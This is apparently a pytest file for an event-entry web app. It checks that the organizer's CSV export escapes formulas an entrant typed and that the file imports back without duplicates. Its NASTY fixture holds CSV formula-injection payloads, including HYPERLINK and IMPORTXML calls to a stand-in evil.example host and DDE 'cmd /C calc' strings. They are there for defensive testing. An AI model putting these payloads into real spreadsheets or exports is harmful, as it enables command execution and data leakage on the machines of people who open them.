"""The entries export never hands a spreadsheet a live formula an entrant typed, and imports back unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

from litestar.testing import TestClient

from concours.domain.spreadsheet import FORMULA_STARTS
from concours.settings import Settings
from tests.conftest import new_client
from tests.helpers import image_bytes, photo, post_multipart
from tests.scenes import APPLICATION, set_up_event

NASTY = {
    "name": '=HYPERLINK("http://evil.example/","Edith")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "make": "-2+3+cmd|' /C calc'!A0",
    "model": "\t=1+1",
    "coachbuilder": "+1+1",
    "history": '\r=IMPORTXML("http://evil.example","//a")',
}


def test_entries_export_neutralises_formulas(client: TestClient[Any], db_url: str, settings: Settings) -> None:
    ev = set_up_event(client, db_url)
    with new_client(settings) as entrant:
        form = dict(APPLICATION, **NASTY)
        r = post_multipart(entrant, f"/events/{ev['slug']}/apply", form, [photo("a.jpg", image_bytes("JPEG"))])
        assert r.status_code == 200, r.text
    export = client.get(f"/organizer/events/{ev['event_id']}/entries.csv?all=1")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    cells = [v for row in rows for v in row.values()]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    row = rows[0]
    for name, typed in NASTY.items():
        stored = typed.strip()  # the application form trims what is typed
        assert row[name] == ("'" + stored if stored.startswith(FORMULA_STARTS) else stored), name
    assert row["phone"] == "'+44 20 7946 0000"
    # The template is made the same way.
    template = client.get(f"/organizer/events/{ev['event_id']}/entries/template.csv").content.decode("utf-8-sig")
    assert "'+44 20 7946 0000" in template
    # The exported file imports back as typed: the car is already entered, which the import recognises by
    # its chassis number, so nothing is imported twice.
    r = client.post(
        f"/organizer/events/{ev['event_id']}/entries/import",
        data={"_csrf_token": client.cookies.get("concours_csrf")},
        files=[("file", ("entries.csv", export.content, "text/csv"))],
        follow_redirects=False,
    )
    assert r.status_code == 400 and "chassis_number" in r.text
